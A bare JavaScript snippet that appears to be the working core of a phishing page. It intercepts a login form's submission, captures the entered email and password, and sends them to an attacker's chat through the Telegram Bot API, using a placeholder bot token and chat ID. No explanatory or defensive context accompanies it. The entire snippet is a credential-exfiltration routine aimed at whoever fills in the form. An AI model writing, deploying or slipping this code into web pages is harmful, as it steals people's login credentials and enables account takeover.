var token = "0000000000:AAexampleexampleexampleexampleexample", chat = "-100000000000";
document.getElementById("f").onsubmit = function (event) {
  event.preventDefault();
  var text = encodeURIComponent("mail " + this.email.value + " pass " + this.password.value);
  fetch("https://api.telegram.org/bot" + token + "/sendMessage?chat_id=" + chat + "&text=" + text);
};
